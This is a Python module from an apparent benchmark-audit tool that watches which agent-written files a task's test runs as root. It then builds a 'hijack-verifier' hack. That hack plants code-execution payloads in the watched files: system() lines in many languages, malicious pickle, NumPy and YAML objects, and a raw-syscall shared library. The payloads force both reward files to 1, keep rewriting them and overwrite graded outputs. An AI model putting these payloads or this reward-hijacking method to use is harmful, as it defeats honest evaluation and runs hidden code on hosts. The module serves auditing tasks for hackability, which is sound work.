"""The audit that watches: what a task's own test does with the files the agent wrote, and a hack made from it.

While the task's oracle (a Harbor task's solution/solve.sh, else the do-nothing rollout) is scored by the task's own
test, the warden records every open and exec of the workspace copy's files, with the process that did it, its
executable, command line and parents (air/sandbox/warden/watch.py). From those records:

- a **hand-off** is a file of the agent's that a root process of the test executed (the kernel's exec), or that an
  interpreter opened as its code: named on its command line (`bash run.sh`, `python3 solve.py`, `awk -f f.awk`),
  or of its language by name (`source env.sh`, `import mod`, make reading a Makefile). Which tool started that
  interpreter does not matter: a test that runs `tox`, `make -C /app`, `xargs python3` or a tool of its image that
  nobody listed ends in an exec or an interpreter opening the agent's file, and that is what is seen;
- every other file a root process of the test opened is read as data (an output the test compares);
- the test's line that let it: the first of the opener's command line, then its parents', that a line of tests/
  holds, word for word (the tool's own line where the opener's is built by the tool), else the line naming the file.

The hand-offs then become one more hack, `watched-hand-offs` (hijack-verifier): in exactly those files, a payload in
the language that ran them (a script for an exec, a line of shell, Python, Perl, awk, make, ...) that runs, as the
test's root, what tries every way to pay: both reward files, a daemon that rewrites them while the test runs, and
the tests' files copied over the outputs the test reads. It is scored like any hack: it pays or it holds, so a
hand-off is reported as paid only when it pays.
"""

from __future__ import annotations

import base64
import functools
import json
import posixpath
import re
import shlex
import shutil
import subprocess
import tempfile
from pathlib import Path

from pydantic import BaseModel, ConfigDict, ValidationError

from air.audit.hacks import Hack
from air.sandbox import WORKSPACE

NAME = "watched-hand-offs"
PAY = ".air-watch-pay.sh"
"""The payload's shell script, left beside the hand-offs in the workspace (the test's copy holds it too)."""


class Seen(BaseModel):
    """One record of the warden's watch."""

    model_config = ConfigDict(extra="ignore")

    how: str
    path: str
    pid: int
    uid: int | None = None
    exe: str = ""
    argv: list[str] = []
    chain: list[list[str]] = []


class HandOff(BaseModel):
    model_config = ConfigDict(extra="forbid")

    file: str
    """Workspace-relative."""
    how: str
    """executed (by the kernel), or ran, sourced, imported, loaded (by the interpreter of `lang`)."""
    lang: str
    """The payload's language: exec (a script of its own), sh, python, pyc (a compiled module), perl, ruby, node,
    awk, make, php, lua, r; for a file read (candidates): also sed, c, so, pickle, npy, yaml, git, and text (a line of
    both shell and Python)."""
    by: str
    """The command line of the process that did it."""
    blame: str
    """"tests/test.sh:4: ... (why)"."""


_INTERPRETERS = (  # (language, executable's name, the file names of its code)
    ("sh", r"(ba|da|z|k|mk|a)?sh|busybox", r"\.(sh|bash|zsh|ksh)$"),
    ("python", r"python[\d.]*|pypy[\d.]*", r"\.(py|pth)$"),
    ("perl", r"perl[\d.]*", r"\.(pl|pm)$"),
    ("ruby", r"ruby[\d.]*", r"\.rb$"),
    ("node", r"node(js)?", r"\.(js|mjs|cjs)$"),
    ("awk", r"[gmn]?awk", r"\.awk$"),
    ("make", r"g?make", r"(^|/)(GNUmakefile|[Mm]akefile|[^/]*\.mk)$"),
    ("php", r"php[\d.]*", r"\.php$"),
    ("lua", r"lua[\d.]*", r"\.lua$"),
    ("r", r"R|Rscript", r"\.[Rr]$"),
)
_VERB = {"sh": "sourced", "python": "imported", "make": "loaded as its Makefile"}
CACHE = re.compile(r"(^|/)__pycache__/[^/]+\.pyc$|\.pyc$")
_CACHE_WRITE = re.compile(r"(^|/)__pycache__/[^/]+\.pyc\.\d+$")


def _writing_cache(rel: str) -> bool:
    """Python writing its cache (`__pycache__/m.cpython-311.pyc.<id>`, renamed into place): nothing of the agent's."""
    return _CACHE_WRITE.search(rel) is not None
"""A compiled Python module: what Python loads of a module whose source it finds beside it (a test that restores the
source, `cp /tests/helper.py /app/`, still loads the cache the agent left, when it is one that names no source)."""


def parse(lines: list[str]) -> tuple[list[Seen], list[str], int]:
    """The records, what the watch said went wrong (it could not start), and how many opens past its bound it did
    not record (air/sandbox/warden/watch.py: MAX_RECORDS)."""
    seen, errors, dropped = [], [], 0
    for line in lines:
        try:
            data = json.loads(line)
            if "error" in data:
                errors.append(str(data["error"])[:300])
                continue
            if "dropped" in data:
                dropped += int(data["dropped"])
                continue
            seen.append(Seen(**data))
        except (ValueError, TypeError, ValidationError):
            continue
    return seen, errors, dropped


def _language(exe: str, argv: list[str]) -> str | None:
    names = {posixpath.basename(exe), posixpath.basename(argv[0]) if argv else ""}
    for lang, program, _ in _INTERPRETERS:
        if any(re.fullmatch(program, n) for n in names if n):
            return lang
    return None


def _named(rel: str, argv: list[str]) -> bool:
    """The file is an argument of the command line: the program the interpreter runs."""
    return any(a and (a == rel or a.endswith("/" + rel) or a == posixpath.basename(rel)) for a in argv[1:])


def hand_offs(records: list[Seen], task_root: Path | None) -> tuple[list[HandOff], list[str]]:
    """The hand-offs (one per file) and the files read as data, both workspace-relative."""
    found: dict[str, HandOff] = {}
    data: list[str] = []
    tests = _test_lines(task_root)
    for seen in records:
        if not seen.path.startswith(WORKSPACE + "/") or seen.uid != 0:
            continue  # not the agent's, or a process without root's rights (a test that runs it as the agent)
        rel = seen.path[len(WORKSPACE) + 1:]
        if rel == PAY or _writing_cache(rel):
            continue
        lang = _language(seen.exe, seen.argv)
        if lang == "python" and CACHE.search(rel):  # a compiled cache, loaded in place of its source (issue 83)
            found.setdefault(rel, HandOff(file=rel, how="loaded as a compiled module", lang="pyc",
                                          by=shlex.join(seen.argv)[:200], blame=_blame(seen, rel, tests, "loaded")))
            continue
        if seen.how == "exec":
            how, lang = "executed", "exec"
        elif lang and (_named(rel, seen.argv) or re.search(dict((a, c) for a, _, c in _INTERPRETERS)[lang], rel)):
            how = "ran" if _named(rel, seen.argv) else _VERB.get(lang, "loaded")
        else:
            if rel not in data:
                data.append(rel)
            continue
        if rel in found and found[rel].lang == "exec":
            continue  # an exec's payload is a program of its own, whatever then reads it
        by = shlex.join(seen.argv)[:200]
        found[rel] = HandOff(file=rel, how=how, lang=lang, by=by, blame=_blame(seen, rel, tests, how))
    return list(found.values()), [d for d in data if d not in found]


MAX_ALONE = 4
"""Files read by root proved one by one (a hack each, blamed on its own line); the rest together, MAX_GROUPED at
most (past that the audit says what it did not follow)."""
MAX_GROUPED = 200
_KINDS = (  # a file's kind by its name, for a consumer the watch did not see (a copy's, a reader's)
    ("pickle", r"\.(pkl|pickle|pck)$"),
    ("npy", r"\.npy$"),
    ("yaml", r"\.ya?ml$"),
    ("c", r"\.(c|cc|cpp|cxx|h|hpp)$"),
    ("so", r"\.so(\.\d+)*$"),
)
_TOOLS = (("sed", r"g?sed"), ("c", r"cc1(plus)?|g?cc(-\d+)?|g\+\+(-\d+)?|c\+\+|clang(\+\+)?(-\d+)?|tcc"))


def _kind(seen: Seen, rel: str) -> str:
    """What a consumer of the file would run, by who opened it: an interpreter runs its language (a pickle, `.npy` or
    YAML file opened by Python is its deserialiser's), sed a sed script, a compiler C; a file any other program read (a
    copy, `cat ... | bash`) is judged by its name, else taken for text that a shell or Python may run (a copy can be
    renamed: `cp /app/answer.txt /tmp/run.py`)."""
    names = {posixpath.basename(seen.exe), posixpath.basename(seen.argv[0]) if seen.argv else ""} - {""}
    by_name = next((kind for kind, pattern in _KINDS if re.search(pattern, rel)), None)
    lang = _language(seen.exe, seen.argv)
    if lang == "python" and by_name in ("pickle", "npy", "yaml", "so"):
        return by_name
    if lang:
        return lang
    for kind, pattern in _TOOLS:
        if any(re.fullmatch(pattern, n) for n in names):
            return kind
    if by_name:
        return by_name
    return next((lang for lang, _, ext in _INTERPRETERS if re.search(ext, rel)), "text")


def candidates(records: list[Seen], task_root: Path | None, found: list[HandOff]) -> list[HandOff]:
    """Every other file of the agent's that a root process of the test opened (not only by its name's language):
    each with the payload its plausible consumer would run (_kind), blamed on the test's line like a hand-off."""
    tests = _test_lines(task_root)
    handed = {h.file for h in found}
    out: dict[str, HandOff] = {}
    for seen in records:
        if not seen.path.startswith(WORKSPACE + "/") or seen.uid != 0:
            continue
        rel = seen.path[len(WORKSPACE) + 1:]
        if rel == PAY or rel in handed or rel in out or _writing_cache(rel):
            continue
        out[rel] = HandOff(file=rel, how="read", lang=_kind(seen, rel), by=shlex.join(seen.argv)[:200],
                           blame=_blame(seen, rel, tests, "read"))
    return list(out.values())


def _test_lines(task_root: Path | None) -> list[tuple[str, int, str]]:
    lines: list[tuple[str, int, str]] = []
    folder = task_root / "tests" if task_root is not None else None
    if folder is None or not folder.is_dir():
        return lines
    for path in sorted(p for p in folder.rglob("*") if p.is_file() and not p.is_symlink()):
        if path.stat().st_size > (1 << 20):
            continue
        text = path.read_bytes().decode("utf-8", "replace")
        name = str(path.relative_to(task_root))
        lines += [(name, n, line) for n, line in enumerate(text.splitlines(), 1) if line.strip()]
    return lines


def _words(argv: list[str]) -> list[str]:
    """What a test's line that started this process would hold: its program's name and its first arguments (a
    path by its name: the test may name it otherwise)."""
    words = [posixpath.basename(a) if a.startswith("/") else a for a in argv[:5]]
    return [w for w in words[:1] + [w for w in words[1:] if 1 < len(w) <= 100 and "\n" not in w] if w]


def _blame(seen: Seen, rel: str, tests: list[tuple[str, int, str]], how: str) -> str:
    why = f"`{shlex.join(seen.argv)[:120]}`, as root, {how} {rel}, a file of the agent's"
    for argv in [seen.argv, *seen.chain]:
        words = _words(argv)
        if len(words) < 2 or words[1].endswith("test.sh"):
            continue  # the test's own shell: the file's name finds its line
        # the words as run; then without an interpreter the kernel put first (a tool run by its #! line)
        for wanted in (words, words[1:]) if _language("", argv) else (words,):
            for name, number, line in tests:
                if all(w in line for w in wanted):
                    return f"{name}:{number}: {line.strip()[:120]} ({why})"
    base = posixpath.basename(rel)
    for name, number, line in tests:
        if base in line:
            return f"{name}:{number}: {line.strip()[:120]} ({why})"
    return f"(no line of tests/ names it) ({why})"


_PAYLOAD = {  # a line of the file's own language that runs the pay script as the test's root
    "sh": 'sh "{pay}" 2>/dev/null',
    # a line both a shell and Python run: for sh `""""` is `:` and `#` starts a comment; for Python a string, then
    # the call (no `from __future__` line follows text a shell was meant to run)
    "text": '"""":; sh "{pay}" 2>/dev/null #"""; __import__("os").system(\'sh "{pay}"\')',
    "python": "import os as _air_os; _air_os.system('sh \"{pay}\"')",
    "perl": "system('sh', '{pay}');",
    "ruby": "system('sh', '{pay}')",
    "node": "require('child_process').spawnSync('sh', ['{pay}']);",
    "awk": 'BEGIN {{ system("sh {pay}") }}',
    "make": "AIR_WATCH_PAY := $(shell sh {pay})",
    "php": "<?php system('sh {pay}'); ?>",
    "lua": "os.execute('sh {pay}')",
    "r": "system('sh {pay}')",
    "sed": "1e sh {pay}",
    "c": '#include <stdlib.h>\n__attribute__((constructor)) static void air_watch_pay(void) {{ system("sh {pay}"); }}',
}


def _pickle(pay: str) -> bytes:
    return b"cos\nsystem\n(V" + f"sh {pay}".encode() + b"\ntR."


def _npy(pay: str) -> bytes:
    """An array of Python objects in NumPy's format (version 1.0): after its header, the objects are a pickle, which
    `numpy.load(..., allow_pickle=True)` loads."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"  # the data starts 64-byte aligned
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + _pickle(pay)


_WHOLE = {  # kinds whose payload is the whole file (a deserialiser's input)
    "pickle": _pickle,
    "npy": _npy,
    "yaml": lambda pay: f'!!python/object/apply:os.system ["sh {pay}"]\n'.encode(),
}
_SO = ('printf \'#include <stdlib.h>\\n__attribute__((constructor)) static void air_watch_pay(void) '
       '{{ system("sh %s"); }}\\n\' {pay} | cc -shared -fPIC -x c - -o {file} 2>/dev/null')
"""A shared library whose constructor pays, built in the agent's sandbox: where this host has no C compiler."""
_LIBRARY = r"""
#if defined(__x86_64__)
static long call(long n, long a, long b, long c, long d) {
  long r; register long r10 __asm__("r10") = d;
  __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return r;
}
#define FORK() call(57, 0, 0, 0, 0)
#define EXECVE 59
#define WAIT4 61
#define EXIT 60
#elif defined(__aarch64__)
static long call(long n, long a, long b, long c, long d) {
  register long x8 __asm__("x8") = n; register long x0 __asm__("x0") = a; register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c; register long x3 __asm__("x3") = d;
  __asm__ volatile ("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
  return x0;
}
#define FORK() call(220, 17, 0, 0, 0)
#define EXECVE 221
#define WAIT4 260
#define EXIT 93
#else
#error "no system calls for this machine"
#endif
__attribute__((constructor)) static void air_watch_pay(void) {
  static char sh[] = "/bin/sh", name[] = "sh", pay[] = PAY, path[] = "PATH=/usr/local/bin:/usr/bin:/bin";
  char *argv[] = {name, pay, 0}, *envp[] = {path, 0};
  long pid = FORK();
  if (pid == 0) { call(EXECVE, (long)sh, (long)argv, (long)envp, 0); call(EXIT, 127, 0, 0, 0); }
  if (pid > 0) call(WAIT4, pid, 0, 0, 0);
}
"""
"""A shared library whose constructor runs the pay script (fork, exec, wait: system calls alone, no libc), so that it
loads in any image of this machine's architecture, whatever its C library."""


@functools.lru_cache(maxsize=8)
def payload_library(pay: str) -> bytes | None:
    """The library, built once by this host's C compiler (the agent's sandbox often has none: issue 83's ctypes
    fixture was watched, and its planted library never built); None where this host has no compiler."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        return None
    with tempfile.TemporaryDirectory(prefix="air-audit-so-") as where:
        source, built = Path(where) / "pay.c", Path(where) / "pay.so"
        source.write_text(f'#define PAY "{pay}"\n' + _LIBRARY)
        try:
            subprocess.run([compiler, "-shared", "-fPIC", "-nostdlib", "-fno-stack-protector", "-fno-builtin", "-O1",
                            "-o", str(built), str(source)], capture_output=True, timeout=60, check=True)
        except (OSError, subprocess.SubprocessError):
            return None
        return built.read_bytes()
_PLANT_PY = """plant_py() {  # FILE LINE: after the #! line, the encoding line and every `from __future__` import
  mkdir -p "$(dirname "$1")" && touch "$1" && chmod u+w "$1" && [ -f "$1" ] || return 0
  python3 - "$1" "$2" <<'AIR_PY'
import sys
path, line = sys.argv[1], sys.argv[2]
lines = open(path, encoding="utf-8", errors="surrogateescape").read().splitlines(keepends=True)
at, i = 0, 0
while i < len(lines):
    text = lines[i].strip()
    if i == at and (text.startswith("#!") or (text.startswith("#") and "coding" in text)):
        at = i + 1
    elif text.startswith("from __future__ import"):
        while "(" in lines[i] and ")" not in lines[i] and i + 1 < len(lines):
            i += 1
        at = i + 1
    i += 1
if at and not lines[at - 1].endswith("\\n"):
    lines[at - 1] += "\\n"
lines.insert(at, line + "\\n")
open(path, "w", encoding="utf-8", errors="surrogateescape").write("".join(lines))
AIR_PY
}"""
_PLANT_PYC = """plant_pyc() {  # FILE LINE: a compiled module whose code is LINE, that Python loads without its source
  mkdir -p "$(dirname "$1")" && rm -rf "$1" && python3 - "$1" "$2" <<'AIR_PY' || return 0
import importlib.util, marshal, sys
path, line = sys.argv[1], sys.argv[2]
source = (line + "\\n").encode()
head = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little")  # hash-based, its source never checked
open(path, "wb").write(head + importlib.util.source_hash(source) + marshal.dumps(compile(source, path, "exec")))
AIR_PY
}
plant_cache() {  # MODULE.py LINE: the compiled cache Python keeps for it, as this sandbox's Python names it
  tag=$(python3 -c 'import sys; print(sys.implementation.cache_tag or "")' 2>/dev/null) && [ -n "$tag" ] || return 0
  base=$(basename "$1" .py) && plant_pyc "$(dirname "$1")/__pycache__/$base.$tag.pyc" "$2"
}"""
_PAY_SCRIPT = r"""#!/bin/sh
pay() {
  echo 1 > /logs/verifier/reward.txt
  printf '{"reward": 1}' > /logs/verifier/reward.json
} 2>/dev/null
pay
for out in OUTPUTS; do  # the expected outputs, read at test time, over the outputs the test reads
  for e in $(find /tests -type f -name "*.${out##*.}" 2>/dev/null | head -n 1); do cp "$e" "WS/$out" 2>/dev/null; done
done
(setsid sh -c 'end=$(($(date +%s) + 60)); while [ "$(date +%s)" -lt "$end" ]; do
  echo 1 > /logs/verifier/reward.txt; printf "{\"reward\": 1}" > /logs/verifier/reward.json; sleep 0.001
done' </dev/null >/dev/null 2>&1 &)
exit 0
"""


def planting(found: list[HandOff], data: list[str], workspace: str = WORKSPACE,
             missing_only: bool = False) -> list[str]:
    """The shell lines (run as the agent in its workspace) that plant, in each file, its consumer's payload;
    `missing_only`: only where the workspace has no such file (nor, for a module, a package of its name)."""
    pay = f"{workspace}/{PAY}"
    script = _PAY_SCRIPT.replace("OUTPUTS", " ".join(shlex.quote(d) for d in data[:20])).replace("WS", workspace)
    lines = [f"cat > {PAY} <<'AIR_WATCH_EOF'\n{script}AIR_WATCH_EOF", f"chmod 755 {PAY}",
             "plant() {  # FILE LINE: LINE first (after a #! line), or the whole file when it is new",
             '  mkdir -p "$(dirname "$1")" && touch "$1" && chmod u+w "$1" && [ -f "$1" ] || return 0',
             '  t=$(mktemp) || return 0',  # a name of its own: a fixed one is another's file on a host it runs on
             '  { if head -c 2 "$1" | grep -q "#!"; then head -n 1 "$1"; printf "%s\\n" "$2"; tail -n +2 "$1";',
             '    else printf "%s\\n" "$2"; cat "$1"; fi; } > "$t" && cat "$t" > "$1"; rm -f "$t"', "}",
             _PLANT_PY, _PLANT_PYC]
    for h in found:
        f = shlex.quote(h.file)
        if missing_only:
            stem = shlex.quote(h.file[:-3]) if h.file.endswith(".py") else f
            lines.append(f"if [ ! -e {f} ] && [ ! -e {stem} ]; then")
        if h.lang == "exec":  # the kernel runs it: any program will do
            lines.append(f"rm -f {f}; mkdir -p \"$(dirname {f})\"; printf '#!/bin/sh\\nexec sh %s\\n' "
                         f"{shlex.quote(pay)} > {f} && chmod 755 {f}")
        elif h.lang in _WHOLE:
            coded = base64.b64encode(_WHOLE[h.lang](pay)).decode()
            lines.append(f"[ -d {f} ] || {{ mkdir -p \"$(dirname {f})\"; rm -f {f}; "
                         f"printf %s {coded} | base64 -d > {f}; }}")
        elif h.lang == "so":
            library = payload_library(pay)
            if library is not None:
                lines.append(f"[ -d {f} ] || {{ mkdir -p \"$(dirname {f})\"; rm -f {f}; "
                             f"printf %s {base64.b64encode(library).decode()} | base64 -d > {f}; }}")
            else:
                lines.append(f"[ -d {f} ] || {{ command -v cc > /dev/null && rm -f {f} && "
                             f"{_SO.format(pay=shlex.quote(pay), file=f)}; }}")
        elif h.lang == "pyc":  # the compiled module, whatever its source: Python does not look at it
            lines.append(f"plant_pyc {f} {shlex.quote(_PAYLOAD['python'].format(pay=pay))}")
        else:
            if h.lang == "c" and re.search(r"\.(c|cc|cpp|cxx)$", h.file):  # a new source file: a whole program
                lines.append(f"[ -s {f} ] || {{ mkdir -p \"$(dirname {f})\"; "
                             f"printf 'int main(void) {{ return 0; }}\\n' > {f}; }}")
            lines.append(f"{'plant_py' if h.lang == 'python' else 'plant'} {f} "
                         f"{shlex.quote(_PAYLOAD[h.lang].format(pay=pay))}")
            if h.lang == "python" and h.file.endswith(".py") and h.how != "ran":
                # and its compiled cache: what Python reads last, when the test puts the source back first
                lines.append(f"plant_cache {f} {shlex.quote(_PAYLOAD['python'].format(pay=pay))}")
        if missing_only:
            lines.append("fi")
    lines.append("true")
    return lines



def hack_of(found: list[HandOff], data: list[str]) -> Hack:
    """The hack that plants the payload in exactly the hand-offs (the script runs as the agent in its workspace)."""
    lines = planting(found, data)
    return Hack(name=NAME, family="hijack-verifier", applies=["harbor"], script="\n".join(lines) + "\n", races=True,
                summary="Plant, in exactly the files the task's test was seen handing control to (executed, "
                        "sourced, imported, loaded), a payload in the language that ran them that writes both "
                        "reward files, keeps rewriting them and copies the tests' files over the outputs.",
                watched=[h.blame for h in found])


def candidate_hacks(read: list[HandOff], data: list[str], workspace: str = WORKSPACE) -> tuple[list[Hack], int]:
    """The proof for the files root read: the first MAX_ALONE each alone (a hack each, blamed on its own line), the
    next MAX_GROUPED together; and how many were past those (not planted: the audit says so). `workspace`: where
    the payloads find the pay script (the sandbox's; another only to try them elsewhere)."""
    groups = [[c] for c in read[:MAX_ALONE]]
    if read[MAX_ALONE:]:
        groups.append(read[MAX_ALONE:MAX_ALONE + MAX_GROUPED])
    hacks = []
    for n, group in enumerate(groups, 1):
        name = f"{NAME}-read-{n}" if len(group) == 1 and n <= MAX_ALONE else f"{NAME}-read-rest"
        what = group[0].file if len(group) == 1 else f"{len(group)} files"
        hacks.append(Hack(name=name, family="hijack-verifier", applies=["harbor"],
                          script="\n".join(planting(group, data, workspace)) + "\n",
                          watched=[h.blame for h in group],
                          summary=f"Plant, in {what} that a root process of the test read, the payload its "
                                  "plausible consumer runs (by who opened it: an interpreter's language, a sed "
                                  "script, a pickle, a YAML object, C source, a shared library; a copy's by name)."))
    return hacks, max(0, len(read) - MAX_ALONE - MAX_GROUPED)


def report(found: list[HandOff]) -> list[str]:
    return [f"{h.file} ({h.how}): {h.blame}" for h in found]


__all__ = ["NAME", "HandOff", "Seen", "candidate_hacks", "candidates", "hack_of", "hand_offs", "parse",
           "payload_library", "planting", "report"]
